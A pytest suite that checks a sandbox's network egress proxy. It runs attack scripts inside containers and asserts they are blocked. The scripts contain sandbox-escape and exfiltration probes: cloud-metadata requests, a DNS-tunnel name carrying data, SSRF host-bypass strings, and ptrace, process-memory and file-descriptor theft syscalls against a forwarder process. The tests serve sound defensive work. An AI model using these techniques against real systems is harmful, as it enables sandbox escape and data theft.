"""Attacks from inside a sandbox that may reach one host, and wants more."""

from __future__ import annotations

import json
import socket
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from pathlib import Path
from threading import Thread
from typing import Any
from uuid import uuid4

import anyio
import pytest
from attack import attacker

from muxi_sandbox.contract import Backend, Sandbox
from muxi_sandbox.docker.backend import DockerBackend
from muxi_sandbox.docker.images import ImageStore
from muxi_sandbox.docker.settings import EngineSettings
from muxi_sandbox.egress.addresses import FixedResolver
from muxi_sandbox.egress.contract import Destination, Egress, Peer, Verdict
from muxi_sandbox.egress.proxy import EgressProxy
from muxi_sandbox.egress.settings import EgressSettings

pytestmark = pytest.mark.timeout(120)

NAME = "site.test"
Attacking = Callable[..., AbstractAsyncContextManager[Sandbox]]

TOOLS = """
    import glob
    def ask(request, where=("127.0.0.1", 3128)):
        family = socket.AF_UNIX if isinstance(where, str) else socket.AF_INET
        with socket.socket(family) as s:
            s.settimeout(20)
            s.connect(where)
            s.sendall(request.encode())
            answer = b""
            while more := s.recv(65536):
                answer += more
        return answer.decode("latin-1")
    def code(answer):
        return answer.split(" ")[1] if answer else "closed"
    def get(url, host=None):
        return f"GET {url} HTTP/1.1\\r\\nHost: {host or url.split('/')[2]}\\r\\nConnection: close\\r\\n\\r\\n"
    def forwarder():
        for path in glob.glob("/proc/[0-9]*/comm"):
            if read(path).strip() == "muxi-forward":
                return int(path.split("/")[2])
    def hear():
        return sys.stdin.readline().strip()
"""


class Told:
    """A gatekeeper that permits, and remembers."""

    def __init__(self) -> None:
        self.decided: list[tuple[str, bool]] = []

    async def decide(self, peer: Peer, destination: Destination) -> Verdict:
        del peer, destination
        return Verdict(allowed=True, rule="test")

    async def tell(self, peer: Peer, kind: str, facts: Mapping[str, Any]) -> None:
        del peer
        if kind == "egress.decided":
            self.decided.append((facts["host"], facts["allowed"]))


class Breakable:
    """An `Egress` whose proxies all die when told to."""

    def __init__(self, egress: Egress) -> None:
        self._egress = egress
        self.dies = anyio.Event()

    @asynccontextmanager
    async def serve(self, socket: Path, peer: Peer) -> AsyncIterator[None]:
        async def die() -> None:
            await self.dies.wait()
            raise RuntimeError("the proxy died, as the test wanted")

        async with self._egress.serve(socket, peer), anyio.create_task_group() as group:
            group.start_soon(die)
            yield
            group.cancel_scope.cancel()

    def certificate(self) -> bytes:
        return self._egress.certificate()


@pytest.fixture
def site() -> Iterator[int]:
    """A page that is always the same, at a port of the host's loopback."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def answer() -> None:
            while True:
                try:
                    client, _ = server.accept()
                except OSError:
                    return
                with client:
                    client.recv(65536)
                    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")

        Thread(target=answer, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


@pytest.fixture
def told() -> Told:
    return Told()


@pytest.fixture
def egress(site: int, told: Told) -> Breakable:
    settings = EgressSettings(private=(f"{NAME}:{site}",))
    return Breakable(EgressProxy(settings, told, resolver=FixedResolver({NAME: ["127.0.0.1"]})))


@pytest.fixture
async def backend(engine_socket: Path, egress: Breakable) -> AsyncIterator[Backend]:
    settings = EngineSettings(socket=engine_socket)
    async with ImageStore(settings) as images:
        await images.ensure("forwarder", print)
    async with DockerBackend(settings, f"in-{uuid4().hex[:8]}", egress=egress) as backend:
        yield backend


@pytest.fixture
def attacking(backend: Backend, python_image: str, site: int) -> Attacking:
    @asynccontextmanager
    async def attack(script: str, **changes: Any) -> AsyncIterator[Sandbox]:
        options = {"network": (f"{NAME}:{site}",), **changes}
        async with backend.lease(
            attacker(python_image, TOOLS + f"    SITE = 'http://{NAME}:{site}/'\n" + script, **options)
        ) as lease:
            yield lease.sandbox

    return attack


async def findings(attacking: Attacking, script: str, **changes: Any) -> Any:
    async with attacking(script, **changes) as sandbox:
        return json.loads(await sandbox.receive())


@pytest.mark.promise("egress-only-by-the-socket")
async def test_what_is_named_is_reached_and_nothing_has_another_way(attacking: Attacking, told: Told) -> None:
    script = """
    def udp(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"x", (address, 53))
    def kind(family, kind, protocol=0):
        socket.socket(family, kind, protocol).close()
    def resolve(name):
        try:
            return socket.getaddrinfo(name, 443)
        except socket.gaierror:
            return "refused"
    def tcp(address):
        socket.create_connection((address, 443), timeout=5)
    direct = [tried(tcp, a) for a in ("1.1.1.1", "172.17.0.1", "169.254.169.254")]
    say([
        code(ask(get(SITE))),
        direct,
        [tried(udp, a) for a in ("1.1.1.1", "172.17.0.1")],
        [resolve(n) for n in ("site.test", "c2VjcmV0.tunnel.example.com")],
        [tried(kind, *a) for a in ((2, 3, 1), (17, 3), (40, 1), (16, 3, 16), (31, 3))],
        [name for _, name in socket.if_nameindex()],
    ])
    """
    reached, direct, udp, names, sockets, interfaces = await findings(attacking, script)
    assert reached == "200"
    assert {*direct, *udp} <= {"ENETUNREACH", "EPERM", "EHOSTUNREACH"}
    assert names == ["refused", "refused"]
    assert set(sockets) <= {"EPERM", "EACCES", "EAFNOSUPPORT"}
    assert interfaces == ["lo"]
    assert told.decided == [(NAME, True)]


@pytest.mark.promise("egress-only-by-the-socket")
async def test_no_other_host_is_reached_through_the_forwarder_nor_by_the_socket_itself(
    attacking: Attacking, site: int, told: Told
) -> None:
    script = f"""
    other = (
        "169.254.169.254", "[fd00:ec2::254]", "127.0.0.1:{site}", "localhost:{site}", "172.17.0.1", "2130706433:{site}",
        "0x7f.1:{site}", "site.test.", "site.test:22", "xsite.test:{site}", "site.test@169.254.169.254", "example.com",
    )
    found = []
    for where in (("127.0.0.1", 3128), "/run/muxi/egress.sock"):
        for place in other:
            found.append([place, code(ask(get(f"http://{{place}}/"), where))])
            target = place if place.rpartition(":")[2].isdigit() else place + ":443"
            found.append([place, code(ask(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n", where))])
    say(found)
    """
    found = await findings(attacking, script)
    assert len(found) == 48
    assert {place: answer for place, answer in found if answer not in {"403", "400"}} == {}
    assert not any(allowed for _, allowed in told.decided)


@pytest.mark.promise("egress-fails-closed")
@pytest.mark.parametrize("init", [True, False])
async def test_a_killed_forwarder_closes_the_way(attacking: Attacking, *, init: bool) -> None:
    script = """
    first = code(ask(get(SITE)))
    os.kill(forwarder(), 9)
    while True:
        try:
            ask(get(SITE))
        except ConnectionRefusedError:
            second = "refused"
            break
        except ConnectionError:
            pass  # taken just before it died
    direct = tried(lambda: socket.create_connection(("1.1.1.1", 80), timeout=5))
    say([first, second, direct])
    """
    assert await findings(attacking, script, init=init) == ["200", "refused", "ENETUNREACH"]


@pytest.mark.promise("egress-fails-closed")
async def test_no_gentler_signal_ends_the_forwarder(attacking: Attacking) -> None:
    script = """
    import signal
    pid = forwarder()
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            os.kill(pid, number)
    say([forwarder() == pid, code(ask(get(SITE)))])
    """
    assert await findings(attacking, script) == [True, "200"]


@pytest.mark.promise("egress-fails-closed")
async def test_a_proxy_that_dies_leaves_no_way_out_and_cuts_what_is_open(
    attacking: Attacking, egress: Breakable, site: int
) -> None:
    script = f"""
    first = code(ask(get(SITE)))
    held = socket.create_connection(("127.0.0.1", 3128))
    held.settimeout(20)
    held.sendall(b"CONNECT {NAME}:{site} HTTP/1.1\\r\\nHost: {NAME}:{site}\\r\\n\\r\\n")
    opened = held.recv(100).split()[1].decode()
    say([first, opened])
    cut = tried(lambda: None if held.recv(100) == b"" else write("/no", ""))
    after = ask(get(SITE))
    hear()
    say([cut, code(after), tried(lambda: ask(get(SITE), "/run/muxi/egress.sock"))])
    """
    async with attacking(script) as sandbox:
        assert json.loads(await sandbox.receive()) == ["200", "200"]
        egress.dies.set()
        await sandbox.send(b"go on")
        cut, after, direct = json.loads(await sandbox.receive())
    assert cut in {"worked", "ECONNRESET"}
    assert after == "502"
    assert direct in {"ENOENT", "ECONNREFUSED"}


@pytest.mark.promise("egress-only-by-the-socket")
async def test_a_sandbox_of_nobody_s_reaches_nothing_until_it_is_claimed(
    backend: Backend, python_image: str, site: int, told: Told
) -> None:
    script = (
        TOOLS
        + f"""
    SITE = 'http://{NAME}:{site}/'
    say([code(ask(get(SITE))), tried(lambda: ask(get(SITE), "/run/muxi/egress.sock"))])
    hear()
    say(code(ask(get(SITE))))
    """
    )
    spec = attacker(python_image, script, network=(f"{NAME}:{site}",))
    async with backend.prepare(spec) as prepared:
        assert json.loads(await prepared.sandbox.receive()) == ["502", "ENOENT"]
        assert told.decided == []
        lease = await prepared.claim("later")
        await lease.sandbox.send(b"go on")
        assert json.loads(await lease.sandbox.receive()) == "200"


@pytest.mark.promise("egress-only-by-the-socket")
async def test_no_socket_of_another_sandbox_and_none_of_the_host_is_in_reach(attacking: Attacking) -> None:
    script = """
    import stat
    sockets = []
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [f for f in folders if f not in ("proc", "sys")]
        sockets += [p for p in (os.path.join(folder, f) for f in files) if stat.S_ISSOCK(os.lstat(p).st_mode)]
    near = [tried(os.listdir, "/run/muxi"), tried(os.listdir, "/run/muxi/.."), tried(os.stat, "/run/muxi-runtime")]
    own = stat.S_ISSOCK(os.stat("/run/muxi/egress.sock").st_mode)
    changes = [
        tried(os.unlink, "/run/muxi/egress.sock"),
        tried(os.rename, "/run/muxi/egress.sock", "/run/muxi/other.sock"),
        tried(lambda: socket.socket(socket.AF_UNIX).bind("/run/muxi/mine.sock")),
        tried(os.chmod, "/run/muxi", 0o777),
        tried(write, "/run/muxi-forwarder/forward", "x"),
        tried(os.unlink, "/run/muxi-forwarder/forward"),
    ]
    say([sockets, near, own, changes])
    """
    async with attacking("    hear()", task="other"):
        sockets, near, own, changes = await findings(attacking, script)
    assert (sockets, own) == ([], True)
    assert near == ["EACCES", "worked", "ENOENT"]
    assert set(changes) <= {"EACCES", "EROFS", "EPERM"}


@pytest.mark.promise("forwarder-unreadable")
@pytest.mark.parametrize("init", [True, False])
async def test_nothing_of_the_forwarder_can_be_read_or_taken_over(attacking: Attacking, *, init: bool) -> None:
    script = """
    pid = forwarder()
    def memory():
        with open(f"/proc/{pid}/mem", "rb") as file:
            file.read(1)
    seen = [
        tried(memory),
        *(tried(read, f"/proc/{pid}/{name}") for name in ("environ", "maps", "auxv", "io", "stack", "syscall")),
        *(tried(os.listdir, f"/proc/{pid}/{name}") for name in ("fd", "fdinfo", "map_files", "ns", "cwd", "root")),
        *(tried(os.readlink, f"/proc/{pid}/{name}") for name in ("exe", "cwd", "root")),
        tried(write, f"/proc/{pid}/oom_score_adj", "1000"),
    ]
    numbers = {"x86_64": (101, 310, 438), "aarch64": (117, 270, 438)}[platform.machine()]
    traced = syscall(numbers[0], 16, pid, 0, 0)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    address = ctypes.addressof(vector)
    copied = syscall(numbers[1], pid, address, 1, address, 1, 0)
    handle = os.pidfd_open(pid)
    stolen = [syscall(numbers[2], handle, number, 0) for number in range(6)]
    modes = (os.O_RDONLY, os.O_WRONLY)
    streams = [tried(os.open, f"/proc/{pid}/fd/{number}", mode) for number in range(6) for mode in modes]
    say([seen, traced, copied, stolen, streams])
    """
    seen, traced, copied, stolen, streams = await findings(attacking, script, init=init)
    assert set(seen) <= {"EACCES", "EPERM"}
    assert {traced, copied, *stolen} <= {"EPERM", "EACCES", "ENOSYS"}
    assert set(streams) <= {"EACCES", "EPERM"}
